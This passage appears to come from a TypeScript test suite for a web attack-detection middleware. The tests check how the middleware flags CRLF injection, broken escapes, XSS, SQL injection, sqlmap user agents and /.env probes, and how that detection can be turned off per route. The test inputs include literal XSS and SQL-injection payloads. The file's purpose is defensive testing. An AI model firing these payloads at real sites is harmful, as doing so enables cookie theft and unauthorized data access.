    await post(`${h.url}/notes`, { text: 'line one\nline two' }) // a multi-line body value: nothing
    assert.deepEqual(
      (await h.of('malicious_protocol_violation')).map((e) => [e.EventOriginalResultDetails, e.ThreatField]),
      [
        ['crlf_injection', 'cookie'],
        ['crlf_injection', 'body:next'],
        ['overlong_utf8', 'query:q'],
        ['percent_u_encoding', 'query:q'],
      ],
    )
    await h.close()
  })

  test('a cookie’s name is an input too', async () => {
    const h = await harness({}, (_req, res) => res.end())
    await fetch(`${h.url}/r`, { headers: { cookie: 'theme=dark; <script>alert(1)</script>=x' } })
    await fetch(`${h.url}/r`, { headers: { cookie: '_ga=GA1.2.3; __Host-session=abc; consent=yes' } })
    const events = await h.of('malicious_xss')
    assert.deepEqual(
      events.map((e) => e.ThreatField),
      ['cookie_key'],
    )
    await h.close()
  })

  test('per route: a class, a detector, or all the hostile-input detectors switched off where the app asks', async () => {
    const h = await harness(
      {
        routes: [
          { match: '/wiki/*', detectors: { injection: { xss: false } } },
          {
            match: '/internal/*',
            detectors: {
              injection: { enabled: false },
              attackTool: { enabled: false },
              scannerProbe: { enabled: false },
            },
          },
        ],
      },
      (_req, res) => res.end(), // 200 for everything: a probe that reached the app
    )
    const script = encodeURIComponent('<script>alert(document.cookie)</script>')
    const sqlmap = { 'user-agent': 'sqlmap/1.8.4#stable (https://sqlmap.org)' }
    for (const base of ['/wiki', '/blog', '/internal']) {
      await fetch(`${h.url}${base}/page?text=${script}&id=${encodeURIComponent("1' OR '1'='1")}`)
      await fetch(`${h.url}${base}/.env`, { headers: sqlmap })
    }
    const where = async (name: string) => (await h.of(name)).map((e) => String(e.Url).split('/')[1])
    assert.deepEqual(await where('malicious_xss'), ['blog'])
    assert.deepEqual(await where('malicious_sqli'), ['wiki', 'blog'])
    assert.deepEqual(await where('malicious_attack_tool'), ['wiki', 'blog'])
    assert.deepEqual(await where('malicious_scanner_probe'), ['wiki', 'blog'])
    await h.close()
  })

  test('a form value that kept valid escapes beside a broken one was sent broken; a JSON value was not', async () => {
    // Form decoders (qs, fast-querystring) keep a value whole, escapes and all, when one escape in
    // it is broken; a browser sends its user's own `%` as `%25`.
    const decode = (s: string) => {
      try {
        return decodeURIComponent(s.replaceAll('+', ' '))
      } catch {
        return s
      }
    }
    const formApp: Handler = (req, res) => {
      const chunks: Buffer[] = []
      req.on('data', (chunk: Buffer) => chunks.push(chunk))
      req.on('end', () => {
        const text = Buffer.concat(chunks).toString()
        ;(req as { body?: unknown }).body = req.headers['content-type']?.startsWith('application/json')
          ? JSON.parse(text)
          : Object.fromEntries(text.split('&').map((pair) => pair.split('=').map(decode)))
        res.end()
      })
    }
    const h = await harness({}, formApp)
    const form = (body: string) =>
      fetch(`${h.url}/f`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body,
      })
    await form('param=%7%6F%6D%65%74%65%78%74%5F%31%32%33%')
    await form('discount=50%25+off') // a user's own `%`, decoded by the framework
    await post(`${h.url}/j`, { note: 'see a%2Fb, 100% sure' })
    assert.deepEqual(
      (await h.of('malicious_protocol_violation')).map((e) => [e.EventOriginalResultDetails, e.ThreatField]),
      [['broken_escape', 'body:param']],
    )
    await h.close()
  })

  test('inputs past the bounds are inspected up to them and reported once, at low severity', async () => {
    const h = await harness({ detectors: { injection: { maxValueLength: 64 } } }, jsonApp)
    await post(`${h.url}/upload`, { blob: 'a'.repeat(10_000) })
    const [event] = await h.of('malicious_protocol_violation')
    assert.equal(event?.EventOriginalResultDetails, 'oversized_input')
    assert.equal(event?.EventSeverity, 'Low')
    await h.close()
  })
})
